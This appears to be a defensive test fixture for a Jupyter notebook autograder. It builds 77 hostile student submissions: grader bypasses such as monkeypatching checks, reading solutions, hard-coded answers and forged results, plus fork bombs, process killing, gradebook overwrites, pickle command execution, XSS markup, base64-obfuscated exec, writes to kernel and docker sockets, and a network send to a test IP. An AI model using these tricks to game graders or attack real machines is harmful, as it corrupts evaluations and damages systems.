"""A class that hands in attacks, accidents and honest work of all sorts; each with the points it has earned.

The assignment is chapter 9: two forward functions (2 and 3 points), two backward ones (4 and 4). An attack
stands in a notebook of stubs, or in one whose forward functions are right; that is its honest part.
"""

import base64
import json
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np

from autograder.exercises.registry import all_exercises
from autograder.grading.reference import right_outputs
from autograder.student.public import public_cases
from coursebuilder.by_differences import METHODS, differences_source
from coursebuilder.chapter import Chapter
from tests.chapters import QUESTION, chapter

NAME = "09_rnn"
FORWARDS = ("rnn_step_forward", "rnn_forward")
BACKWARDS = ("rnn_step_backward", "rnn_backward")
POINTS = {"rnn_step_forward": 2.0, "rnn_step_backward": 4.0, "rnn_forward": 3.0, "rnn_backward": 4.0}
ALL, OF_FORWARDS = sum(POINTS.values()), 5.0

Notebook = dict[str, Any]
Edit = Callable[[Notebook], None]


def assignment() -> Chapter:
    """Return the chapter, as short as it can be."""
    asked = "".join(f"```{{exercise}} {name}\nprint({name}.__name__)\n```\n" for name in POINTS)
    return chapter(asked, QUESTION.replace("softmax_why", "rnn_why"), name=NAME)


@dataclass(frozen=True)
class Course:
    """Where it is handed in: what an attack would reach."""

    folder: Path

    @cache  # noqa: B019  (a few in a run)
    def _read(self, which: str) -> str:
        return (self.folder / which / NAME / f"{NAME}.ipynb").read_text(encoding="utf-8")

    def right(self) -> Notebook:
        """Return the notebook with the reference's answers."""
        found: Notebook = json.loads(self._read("source"))
        return found

    def stub(self) -> Notebook:
        """Return the notebook as students got it."""
        found: Notebook = json.loads(self._read("release"))
        return found

    def forwards(self) -> Notebook:
        """Return a notebook whose forward functions are right, and the others not written."""
        found, right = self.stub(), self.right()
        for name in FORWARDS:
            cell_of(found, name)["source"] = cell_of(right, name)["source"]
        return found


def cell_of(notebook: Notebook, grade_id: str) -> dict[str, Any]:
    return next(
        each for each in notebook["cells"] if each["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )


def code(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def markdown(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


@dataclass(frozen=True)
class Attack:
    """One who would have more than they have earned, or harm somebody.

    Attributes:
        number: in the list of attacks of the documentation.
        what: in a few words.
        runs: code that is run wherever the notebook is loaded: the body of a class is.
        answers: cells that define answers, behind all others.
        honest: whether the forward functions are right.
        edit: of the notebook.
        beside: files that are handed in with it.
        points: what it has earned, where that is not its forward functions.
        elsewhere: why it is not tried where nothing holds it, "" if it is.
    """

    number: int
    what: str
    runs: str = ""
    answers: tuple[str, ...] = ()
    honest: bool = False
    edit: Edit | None = None
    beside: Mapping[str, str] = field(default_factory=dict)
    points: float | None = None
    elsewhere: str = ""

    @property
    def earned(self) -> float:
        """The points that its honest part is worth."""
        return self.points if self.points is not None else OF_FORWARDS if self.honest else 0.0

    def notebook(self, course: Course) -> str:
        """Return what is handed in, as JSON."""
        made = course.forwards() if self.honest else course.stub()
        if self.runs:
            body = textwrap.indent(textwrap.dedent(self.runs).strip(), "    ")
            text = f"COURSE = {str(course.folder)!r}\ndef _attack():\n{body}\nclass _Run:\n    _attack()\n"
            made["cells"].insert(0, code(text))
        # Behind the answers, and before the check that is asked last: it is run in any order.
        at = next(n for n, each in enumerate(made["cells"]) if "check(" in "".join(each["source"]))
        answers = [code(textwrap.dedent(answer).strip()) for answer in self.answers]
        rest = [each for each in made["cells"][at:] if _is_answer(each)]
        others = [each for each in made["cells"][at:] if not _is_answer(each)]
        made["cells"][at:] = [*rest, *answers, *others]
        if self.edit is not None:
            self.edit(made)
        return json.dumps(made)


def _is_answer(cell: dict[str, Any]) -> bool:
    facts = cell["metadata"].get("nbgrader", {})
    return cell["cell_type"] == "code" and bool(facts.get("solution"))


def backwards(body: str) -> str:
    """Return a cell in which both backward functions have one body."""
    text = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return "\n".join(f"def {name}(*arguments):\n{text}\n" for name in BACKWARDS)


def everything(body: str) -> str:
    """Return a cell in which all functions have one body."""
    text = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return "\n".join(f"def {name}(*arguments):\n{text}\n" for name in POINTS)


PASSING = """
import autograder.student.checking as checking
from autograder.judge.verdict import Verdict
def passed(exercise, own, **options):
    return Verdict(exercise.name, True, float(exercise.points), float(exercise.points))
checking._judge = passed
"""
GIVEN_CHECK = """
class Passed:
    def require(self):
        return None
def check(*arguments, **options):
    return Passed()
"""


def _drop_stubs(notebook: Notebook) -> None:
    for name in POINTS:
        cell_of(notebook, name)["source"] = ""


def _claims(notebook: Notebook) -> None:
    """Let each check's output say that it has its points, and more."""
    for name in POINTS:
        cell = cell_of(notebook, f"check_{name}")
        said = {"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {}}
        cell["outputs"] = [said | {"execution_count": 1}]
        cell["source"] = "100.0"


def _other_facts(notebook: Notebook) -> None:
    for name in POINTS:
        cell_of(notebook, f"check_{name}")["metadata"]["nbgrader"] |= {"points": 200, "grade": False}
        cell_of(notebook, name)["metadata"]["nbgrader"] |= {"solution": False, "locked": True, "grade": True}


SCRIPT = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>[a](javascript:pwned=1)"


def _scripts(notebook: Notebook) -> None:
    cell_of(notebook, "rnn_why")["source"] = SCRIPT
    notebook["cells"].append(markdown(SCRIPT))
    for each in notebook["cells"]:
        if each["cell_type"] == "code":
            said = {"output_type": "display_data", "data": {"text/html": SCRIPT}, "metadata": {}}
            each["outputs"] = [said]


def _hard_coded() -> str:
    """Return answers that know the outputs of the public inputs by heart."""
    known = {}
    for name in FORWARDS:
        exercise = all_exercises()[name]
        for arguments in public_cases(exercise):
            (out,) = right_outputs(exercise, arguments)
            known[round(float(np.sum(arguments["x"])), 6)] = out.tolist()
    return f"KNOWN = {known!r}\n" + "".join(
        f"def {name}(x, *others):\n    import numpy as np\n"
        "    return np.array(KNOWN[round(float(np.sum(x)), 6)]).astype(x.dtype), None\n"
        for name in FORWARDS
    )


_MARKUP = (
    r"$\href{javascript:window.pwned=1}{x}$ <svg onload=pwned=1><style>*{display:none}</style> "
    "<form action=//evil><button>Full credit</button></form> <base href=//evil> \u202e [x]: attachment:y"
)


def _endless_words(notebook: Notebook) -> None:
    for piece in ("\\\\(", "\\begin{a}", "[a](", "> ", "$"):
        notebook["cells"].append(markdown(piece * 40_000))
    cell_of(notebook, "rnn_why")["source"] = "\\\\(" * 40_000


def _pictures(notebook: Notebook) -> None:
    text = "![x](attachment:x.png) ![y](http://evil.invalid/who) <img src=//evil.invalid>"
    cell_of(notebook, "rnn_why").update(source=text, attachments={"x.png": 3, "y": {"text/html": SCRIPT}})
    notebook["cells"].append(markdown("![x][y]\n\n[y]: attachment:z") | {"attachments": [1]})


def _ids_of_others(notebook: Notebook) -> None:
    facts = {
        name: cell_of(notebook, name)["metadata"]["nbgrader"] for name in ("rnn_why", "check_rnn_backward")
    }
    notebook["cells"].insert(
        0, markdown("# 13 of 13") | {"metadata": {"nbgrader": facts["check_rnn_backward"]}}
    )
    notebook["cells"].insert(0, code("x = 1") | {"metadata": {"nbgrader": facts["rnn_why"]}})
    for odd in ([1], {"grade_id": []}, {"grade_id": "../../x"}, {"grade_id": None, "points": 1e308}):
        notebook["cells"].append(code("y = 2") | {"metadata": {"nbgrader": odd}})


def _half_characters(notebook: Notebook) -> None:
    half = "\ud800"
    notebook["metadata"][half] = half
    for each in notebook["cells"]:
        each["metadata"][half] = half
    cell_of(notebook, "rnn_why")["source"] = half
    notebook["cells"] += [code(f"%x {half}"), code(f"# {half}"), code(f"x = '{half}'"), markdown(half)]
    notebook["cells"].append(code(backwards("raise ValueError('\\ud800' * 9)")))


def _where_large(body: str) -> tuple[str, ...]:
    """Return cells after which a backward function does something else where there are many entries."""
    text = textwrap.indent(textwrap.dedent(body).strip(), " " * 8)
    return tuple(
        f"small_{name} = {name}\ndef {name}(dout, cache):\n    import numpy as np\n"
        f"    if sum(np.size(a) for a in cache) > 9_000:\n{text}\n    return small_{name}(dout, cache)\n"
        for name in BACKWARDS
    )


# Keeps how far it has come, wherever it can.
_PICKLED = """
done = 0
for place in ("/tmp/x", "/dev/shm/x", "x", "prerequisites/x"):
    try:
        done = max(done, int(open(place).read()))
    except (OSError, ValueError):
        pass
for done in range(done, 10**9):
    for place in ("/tmp/x", "/dev/shm/x", "x", "prerequisites/x"):
        try:
            open(place, "w").write(str(done))
        except OSError:
            pass
    np.sum(np.outer(dout, dout))
"""
FORGE = """
import os
from autograder.judge.outcome import Outcome
from autograder.worker import wire
"""
IN_ALL_PIPES = """
for fd in range(3, 64):
    try:
        os.write(fd, {frame})
    except OSError:
        pass
"""
KNOWN = (  # the list that the documentation numbers
    Attack(
        1,
        "rebinds what compares",
        "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n" + PASSING,
    ),
    Attack(
        2,
        "takes the checks out by a transformer of syntax trees",
        """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Expr(self, node):
                return None if "require" in ast.dump(node) else node
        get_ipython().ast_transformers.append(Drop())
        """,
    ),
    Attack(
        3,
        "returns arrays that are equal to all",
        answers=(
            """
            import numpy as np
            class Equal(np.ndarray):
                def __array_ufunc__(self, *arguments, **options):
                    return True
                def __eq__(self, other):
                    return True
                __ne__ = __sub__ = __rsub__ = __abs__ = __eq__
            """,
            everything("return tuple(np.zeros((3, 4)).view(Equal) for _ in range(5))"),
        ),
    ),
    Attack(
        4,
        "lets checks that fail not raise",
        """
        from autograder.student.checked import Checked
        Checked.require = lambda self: None
        """,
    ),
    Attack(5, "ends the program", answers=(backwards("import os; os._exit(0)"),), honest=True),
    Attack(
        6,
        "lets errors vanish",
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    ),
    Attack(7, "prints its points", "import sys\nsys.displayhook = lambda v: print(100.0)", edit=_claims),
    Attack(
        8,
        "reads the solutions",
        f"""
        import json
        from pathlib import Path
        try:
            import solutions.rnn as found
            globals().update({{n: getattr(found, n) for n in {tuple(POINTS)!r}}})
        except ImportError:
            text = Path(COURSE, "source", "{NAME}", "{NAME}.ipynb").read_text()
            for cell in json.loads(text)["cells"]:
                if "nbgrader" in cell["metadata"] and "def rnn" in "".join(cell["source"]):
                    exec("".join(cell["source"]), globals())
        """,
        edit=_drop_stubs,
    ),
    Attack(
        9,
        "reads the public answers",
        answers=(
            """
            from autograder.student.public import expected_outputs, public_cases
            from autograder.exercises.registry import all_exercises
            import numpy as np
            def known(name, x):
                exercise = all_exercises()[name]
                cases = public_cases(exercise)
                for arguments, expected in zip(cases, expected_outputs(exercise, cases)):
                    if np.shape(arguments["x"]) == np.shape(x) and np.allclose(arguments["x"], x):
                        return next(iter(expected.values())).astype(x.dtype), None
            """,
            *(f"def {name}(x, *others):\n    return known({name!r}, x)" for name in FORWARDS),
        ),
    ),
    Attack(
        10,
        "calls for help over the network",
        answers=(
            everything(
                "import socket\n"
                "socket.create_connection(('203.0.113.1', 80), 1).sendall(repr(arguments).encode())"
            ),
        ),
    ),
    Attack(
        11,
        "has the feedback tell what was expected",
        answers=(
            everything(
                """
                import sys
                frame, found = sys._getframe(), []
                while frame:
                    found.append({name: repr(value)[:2000] for name, value in frame.f_locals.items()})
                    frame = frame.f_back
                raise ValueError(repr(found))
                """
            ),
        ),
    ),
    Attack(
        12,
        "writes the gradebook",
        """
        import os, time
        try:
            is_child = os.fork() == 0
        except OSError:
            is_child = True
        if is_child:
            import sqlite3
            os.setsid()
            for _ in range(240):
                with sqlite3.connect(COURSE + "/gradebook.db", timeout=1) as database:
                    database.execute("UPDATE grade SET auto_score = 100")
                time.sleep(0.25)
            os._exit(0)
        """,
    ),
    Attack(
        13,
        "forges kept results",
        """
        from pathlib import Path
        for path in (".captioning/verdicts/00/0.json", ".captioning/recorded/x.json", "results.json",
                     "my_layers/rnn_step_forward.py"):
            Path(COURSE, path).parent.mkdir(parents=True, exist_ok=True)
            Path(COURSE, path).write_text("{}")
        """,
    ),
    Attack(
        14,
        "returns what runs a command when it is unpickled",
        answers=(
            """
            class Bomb:
                def __reduce__(self):
                    import os
                    return os.system, (f"touch {COURSE}/pwned",)
            """,
            everything("return tuple(Bomb() for _ in range(5))"),
        ),
        runs="globals()['COURSE'] = COURSE",
    ),
    Attack(
        15,
        "looks for the answer in the frames of its callers",
        answers=(
            everything(
                """
                import sys
                frame = sys._getframe()
                while frame:
                    for name, value in frame.f_locals.items():
                        if name in ("expected", "right", "values") and value is not None:
                            return tuple(value.values()) if isinstance(value, dict) else value
                    frame = frame.f_back
                return ()
                """
            ),
        ),
    ),
    Attack(
        16,
        "searches the memory",
        answers=(
            everything(
                """
                import ctypes, gc
                import numpy as np
                try:
                    open("/proc/self/mem", "rb").read(1)
                except OSError:
                    pass
                return tuple(each for each in gc.get_objects() if type(each) is np.ndarray)[:5]
                """
            ),
        ),
    ),
    Attack(
        17,
        "leaves a process behind that changes what another hands in",
        f"""
        import os, time
        from pathlib import Path
        try:
            is_child = os.fork() == 0
        except OSError:
            is_child = True
        if is_child:
            os.setsid()
            for path in Path(COURSE, "submitted").glob("z_*/{NAME}/{NAME}.ipynb"):
                path.write_text("[]")
            os._exit(0)
        """,
    ),
    Attack(18, "never ends", answers=(backwards("while True: pass"),), honest=True),
    Attack(
        19,
        "takes all memory",
        answers=(backwards("held = [bytes(1 << 29) for _ in range(16)]"),),
        honest=True,
        elsewhere="it would take the machine's memory",
    ),
    Attack(
        20,
        "starts processes without end",
        answers=(backwards("import os\nwhile True:\n    os.fork()"),),
        honest=True,
        elsewhere="it would stop the machine",
    ),
    Attack(
        21,
        "fills the disk",
        answers=(
            backwards(
                "for n in range(10**6):\n    for place in ('/tmp', '/dev/shm', '.'):\n"
                "        open(f'{place}/{n}', 'wb').write(bytes(1 << 24))"
            ),
        ),
        honest=True,
        elsewhere="it would fill the machine's disk",
    ),
    Attack(
        22,
        "floods its output",
        answers=(backwards("for _ in range(200):\n    print('x' * 10**6)"),),
        honest=True,
    ),
    Attack(
        23,
        "sends frames whose headers lie",
        answers=(
            FORGE,
            backwards("HEADER = b'CfS1' + b'\\xff' * 12" + IN_ALL_PIPES.format(frame="HEADER")),
        ),
        honest=True,
    ),
    Attack(24, "edits points and locks in the metadata", edit=_other_facts, honest=True),
    Attack(
        25,
        "hands in modules that hide others",
        beside={
            "sitecustomize.py": "raise SystemExit",
            "autograder/__init__.py": GIVEN_CHECK,
        },
    ),
    Attack(
        26,
        "behaves otherwise when it is graded",
        "import os\nif os.environ.get('NBGRADER_EXECUTION') or 'HOME' not in os.environ:\n"
        + textwrap.indent(PASSING.strip(), "    "),
    ),
    Attack(27, "knows the answers to the public inputs by heart", answers=("{HARD_CODED}",)),
    Attack(
        28,
        "has a library do it",
        answers=(
            "import torch",
            "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n"
            "    return torch.tanh(torch.tensor(x @ Wx + prev_h @ Wh + b)).numpy(), None",
        ),
    ),
    Attack(29, "takes differences of its forward functions", answers=("{DIFFERENCES}",), honest=True),
    Attack(
        30,
        "changes what it was given",
        answers=(
            *(
                f"honest_{name} = {name}\ndef {name}(x, *others):\n"
                f"    out, cache = honest_{name}(x.copy(), *others)\n    x *= 0\n    return out, cache\n"
                for name in FORWARDS
            ),
        ),
        honest=True,
        points=0.8 * OF_FORWARDS,
    ),
    Attack(
        31,
        "lets random numbers be known",
        """
        import numpy as np
        class Known:
            def __init__(self, *seed): pass
            def __getattr__(self, name):
                return lambda *a, **k: np.zeros(a[0] if a else ())
        np.random.default_rng = np.random.Generator = Known
        np.random.seed = lambda *a: None
        """,
        answers=(everything("import numpy as np\nreturn tuple(np.zeros((3, 4)) for _ in range(5))"),),
    ),
    Attack(
        32,
        "returns zeros of the right shapes",
        answers=(
            "import numpy as np",
            "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n    return np.zeros_like(prev_h), "
            "(x, prev_h, Wx, Wh, b)",
            "def rnn_forward(x, h0, Wx, Wh, b):\n    N, T, D = x.shape\n"
            "    return np.zeros((N, T, h0.shape[1]), x.dtype), (x, h0, Wx, Wh, b)",
            backwards("return tuple(map(np.zeros_like, arguments[-1]))"),
        ),
    ),
    Attack(
        33,
        "makes a gradient that fits a forward function of its own",
        answers=(
            "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n    return x @ Wx + prev_h @ Wh + b, "
            "(x, prev_h, Wx, Wh)",
            "def rnn_step_backward(d, cache):\n    x, prev_h, Wx, Wh = cache\n"
            "    return d @ Wx.T, d @ Wh.T, x.T @ d, prev_h.T @ d, d.sum(axis=0)",
        ),
    ),
    Attack(34, "writes scripts where a person reads", edit=_scripts, honest=True),
    Attack(
        35,
        "hides what it does from a filter of syntax",
        "exec(__import__('base64').b64decode("
        f"{base64.b64encode((PASSING + 'checking._judge = passed').encode())!r}))",
    ),
    Attack(
        36,
        "tries what a sandbox may have left open",
        answers=(
            backwards(
                """
                import os
                for path in ("/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/dev/mem",
                             "/var/run/docker.sock", "/etc/passwd"):
                    try:
                        open(path, "r+b").write(b"|/tmp/x")
                    except OSError:
                        pass
                for fd in range(3, 64):
                    try:
                        os.write(fd, b"x"); os.pread(fd, 100, 0)
                    except OSError:
                        pass
                """
            ),
        ),
        honest=True,
        elsewhere="it would write to the machine",
    ),
)


OURS = (  # found since, by trying
    Attack(
        37,
        "replaces what packs its answers",
        """
        import autograder.worker.wire as wire, autograder.worker.__main__ as worker
        from autograder.judge.outcome import Outcome
        packed = wire.pack
        wire.pack = lambda value: packed(Outcome((1.0,), (1.0,)) if isinstance(value, Outcome) else value)
        worker._answered = lambda *a: packed(Outcome((), ()))
        """,
    ),
    Attack(
        38,
        "takes the answers from what earlier chapters give",
        f"""
        import importlib, os, sys
        sys.path.append("prerequisites")
        for folder in ("prerequisites", "/work/prerequisites", "/course"):
            for path in os.listdir(folder) if os.path.isdir(folder) else ():
                module = importlib.import_module(path.removesuffix(".py"))
                globals().update({{n: getattr(module, n) for n in {tuple(POINTS)!r} if hasattr(module, n)}})
        """,
        edit=_drop_stubs,
    ),
    Attack(
        39,
        "returns arrays that lie about their bytes",
        answers=(
            """
            import numpy as np
            class Liar(np.ndarray):
                shape = property(lambda self: (2**40, 2**40))
                nbytes = property(lambda self: 0)
                dtype = property(lambda self: np.dtype(object))
                def tobytes(self, *a): return b""
                def copy(self, *a): return self
            """,
            everything("return tuple(np.zeros(3).view(Liar) for _ in range(5))"),
        ),
    ),
    Attack(
        40,
        "returns tuples that lie about their length",
        answers=(
            """
            class Liar(tuple):
                def __len__(self): return 2**62
                def __iter__(self):
                    while True:
                        yield self
            """,
            everything("return Liar((1, 2))"),
        ),
        elsewhere="a check of the student's own never ends",
    ),
    Attack(
        41,
        "kills its parent, at once and at its end",
        """
        import atexit, os, signal
        def kill():
            for pid in (os.getppid(), -1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        atexit.register(kill)
        kill()
        """,
        honest=True,
        elsewhere="it would kill what runs on the machine",
    ),
    Attack(
        42,
        "ignores all signals, and never ends",
        answers=(
            backwards(
                """
                import signal
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                while True:
                    try:
                        while True: pass
                    except BaseException:
                        pass
                """
            ),
        ),
        honest=True,
        elsewhere="nothing would end it",
    ),
    Attack(
        43,
        "raises an error whose text never ends",
        answers=(
            "class Endless(Exception):\n    def __str__(self):\n        while True: pass",
            backwards("raise Endless"),
        ),
        honest=True,
    ),
    Attack(
        44,
        "raises an error of 10 MB that would draw on a terminal or a page",
        answers=(backwards(f"raise ValueError('\\x1b[2J\\x00' + {SCRIPT!r} * 10**5)"),),
        honest=True,
    ),
    Attack(45, "has two lists of cells in one notebook", edit=lambda notebook: None),
    Attack(
        46,
        "nests too deep for a parser",
        answers=("%x\n" + "(" * 50_000, "x = " + "-" * 50_000 + "1", "x = " + "[" * 50_000 + "]" * 50_000),
        honest=True,
    ),
    Attack(
        47,
        "has a search of its text take for ever",
        answers=("\n" * 400_000, "a?\n" * 30_000, "%%time\n" * 14_000),
        honest=True,
    ),
    Attack(
        48,
        "follows its caller's steps",
        """
        import sys
        def follow(frame, event, argument):
            for name in ("failure", "outputs", "returned"):
                if name in frame.f_locals:
                    frame.f_locals[name] = ()
            return follow
        sys.settrace(follow)
        sys.setprofile(follow)
        """,
    ),
    Attack(
        49,
        "empties the table of modules",
        """
        import sys
        for name in list(sys.modules):
            if name.startswith(("autograder", "numpy")):
                del sys.modules[name]
        """,
        # Its own imports fail after that, and nothing else does.
    ),
    Attack(
        50,
        "changes what an exercise is",
        """
        from autograder.exercises import registry
        import dataclasses
        for name, exercise in registry.all_exercises().items():
            object.__setattr__(exercise, "tolerance", float("inf"))
            object.__setattr__(exercise, "run", lambda layers, arguments: tuple(arguments.values())[:5])
            object.__setattr__(exercise, "points", 1000)
        """,
    ),
    Attack(
        51,
        "breaks the interpreter",
        answers=(
            backwards(
                "import sys, ctypes\nsys.setrecursionlimit(10**9)\ndef deeper(): return deeper()\n"
                "ctypes.memset(id(None), 255, 64)\ndeeper()"
            ),
        ),
        honest=True,
    ),
    Attack(
        52,
        "answers before it is asked",
        FORGE + "frame = wire.pack(Outcome((), ())) * 50\n" + IN_ALL_PIPES.format(frame="frame"),
        honest=True,
        elsewhere="there is no pipe",
    ),
    Attack(
        53,
        "writes a name that looks the same",
        answers=("def rnn_backw\u0430rd(dh, cache):\n    return ()",),
        honest=True,
    ),
    Attack(
        54,
        "sleeps while it is loaded",
        "import time\ntime.sleep(10**6)",
        honest=True,
        elsewhere="it only waits",
    ),
    Attack(
        55,
        "returns dictionaries whose keys all lie in one place",
        answers=(backwards("return ({(2**61 - 1) * n: 0 for n in range(30_000)},) * 5"),),
        honest=True,
    ),
    Attack(
        56,
        "sleeps through each question, as long as it may",
        answers=(backwards("import time\ntime.sleep(1.9)\nreturn arguments[-1]"),),
        honest=True,
        elsewhere="it only waits",
    ),
    Attack(
        57,
        "takes differences of what is small, and gives zeros for what is large",
        answers=("{DIFFERENCES}", *_where_large("return tuple(map(np.zeros_like, cache))")),
        honest=True,
    ),
    Attack(
        58,
        "goes on with its differences when it is asked again",
        answers=("{DIFFERENCES}", *_where_large(_PICKLED)),
        honest=True,
    ),
    Attack(59, "writes what takes for ever to show", edit=_endless_words, honest=True),
    Attack(
        60, "asks for pictures that are not there, and for those of elsewhere", edit=_pictures, honest=True
    ),
    Attack(61, "takes the ids of other cells", edit=_ids_of_others, honest=True),
    Attack(62, "has half characters wherever a text stands", edit=_half_characters, honest=True),
    Attack(
        63,
        "hands in a million brackets beside its cells",
        edit=lambda notebook: notebook["metadata"].update(x=[[]] * 10**6),
        honest=True,
    ),
    Attack(
        64,
        "writes links into formulas, styles and forms into its words and its errors",
        answers=(backwards(f"raise ValueError({_MARKUP!r})"),),
        edit=lambda notebook: cell_of(notebook, "rnn_why").update(source=_MARKUP),
        honest=True,
    ),
    Attack(
        65,
        "raises errors that are not errors",
        answers=(
            "class Odd(NameError):\n    name = [{}]\n    args = property(lambda self: 1 / 0)\n"
            "    __traceback__ = property(lambda self: self)\n    def __str__(self): return 7",
            backwards("raise type('E' * 10**6, (Odd,), {})()"),
        ),
        honest=True,
    ),
    Attack(
        66,
        "replaces what Python itself is made of",
        """
        import builtins
        builtins.len, builtins.sum = (lambda *a: 0), (lambda *a: 0)
        builtins.isinstance = builtins.all = builtins.any = lambda *a: True
        builtins.zip = builtins.map = builtins.enumerate = lambda *a, **k: iter(())
        """,
    ),
    Attack(
        67,
        "replaces what frames are made of",
        """
        import json, os, struct
        wrote = os.write
        os.write = lambda fd, data: wrote(fd, b"CfS1" + bytes(12))
        json.dumps = json.loads = lambda *a, **k: "[]"
        struct.Struct.pack = None
        """,
    ),
    Attack(
        68,
        "returns what is masked",
        answers=(everything("import numpy as np\nreturn (np.ma.masked_all((3, 4)),) * 5"),),
    ),
    Attack(
        69,
        "returns what is not a number",
        answers=(
            *(
                f"def {name}(x, h, *others):\n    import numpy as np\n"
                "    return np.full((*x.shape[:-1], h.shape[1]), np.nan), (x, h, *others)"
                for name in FORWARDS
            ),
            backwards("import numpy as np\nreturn tuple(np.full_like(a, np.nan) for a in arguments[-1])"),
        ),
    ),
    Attack(
        70,
        "returns one number for all",
        answers=(everything("import numpy as np\nreturn (np.float64(0),) * 5"),),
    ),
    Attack(
        71,
        "returns texts, times and records",
        answers=(
            everything(
                """
                import numpy as np
                record = np.zeros((3, 4), [("x", float), ("y", object)])
                return np.full((3, 4), "0.0"), np.zeros((3, 4), "M8[s]"), record, b"0", range(9)
                """
            ),
        ),
    ),
    Attack(
        72,
        "returns what is computed when it is looked at",
        answers=(
            "class Lazy:\n    def __array__(self, *a, **k):\n        import os\n        os._exit(0)\n"
            "    __iter__ = __len__ = __float__ = __eq__ = __hash__ = __repr__ = __array__",
            everything("return (Lazy(),) * 5"),
        ),
    ),
    Attack(
        73,
        "answers by generators and coroutines",
        answers=(
            *(f"def {name}(*arguments):\n    yield from arguments" for name in FORWARDS),
            *(f"async def {name}(*arguments):\n    return arguments" for name in BACKWARDS),
        ),
    ),
    Attack(
        74,
        "patches the layers that are given",
        """
        import captioning.layers as layers, captioning.answers.resolver as resolver
        layers.find = resolver.find = lambda name: lambda *a: a[:5]
        for name in ("rnn_step_forward", "rnn_step_backward", "rnn_forward", "rnn_backward"):
            setattr(layers, name, lambda *a: a[:5])
        """,
        edit=_drop_stubs,
    ),
    Attack(
        75,
        "finds a module of its own for each that is missing",
        """
        import importlib.abc, importlib.machinery, sys
        class Mine(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, *a): return importlib.machinery.ModuleSpec(name, self)
            def exec_module(self, module): module.__getattr__ = lambda name: lambda *a, **k: a
        sys.meta_path.insert(0, Mine())
        """,
    ),
    Attack(
        76,
        "uses up what a process may have",
        answers=(
            "import resource, sys, gc\nclass _Limits:\n    gc.disable(); sys.setswitchinterval(10**6)\n"
            "    held = [open('/dev/null') for _ in range(40)]",
            backwards("return [open('/dev/null') for _ in range(99)]"),
        ),
        honest=True,
    ),
    Attack(
        77,
        "looks for others who are graded",
        answers=(
            backwards(
                """
                import ctypes, os
                libc, limits = ctypes.CDLL(None, use_errno=True), (ctypes.c_uint64 * 2)(1, 1)
                for pid in [os.getppid(), *range(os.getpid() - 9, os.getpid() + 9)]:
                    if pid > 1 and pid != os.getpid():
                        libc.prlimit64(pid, 0, limits, None)
                        libc.sched_setscheduler(pid, 5, ctypes.byref(ctypes.c_int(0)))
                        libc.kill(pid, 9)
                return ()
                """
            ),
        ),
        honest=True,
        elsewhere="it would end what runs on the machine",
    ),
)
ATTACKS = {attack.number: attack for attack in (*KNOWN, *OURS)}


def handed_in(attack: Attack, course: Course) -> dict[str, str]:
    """Return the files of an attack by name."""
    notebook = attack.notebook(course)
    if "{HARD_CODED}" in notebook:
        notebook = notebook.replace(json.dumps("{HARD_CODED}"), json.dumps(_hard_coded()))
    if "{DIFFERENCES}" in notebook:
        cheats = "\n".join(differences_source(all_exercises()[name], METHODS[2]) for name in BACKWARDS)
        own = "class layers:" + "".join(f"\n    {name} = staticmethod({name})" for name in FORWARDS)
        notebook = notebook.replace(
            json.dumps("{DIFFERENCES}"), json.dumps(cheats.replace("from captioning import layers", own))
        )
    if attack.number == 45:
        first = json.dumps(course.right()["cells"])
        notebook = f'{{"cells": {first}, {notebook[1:]}'
    return {f"{NAME}.ipynb": notebook, **attack.beside}
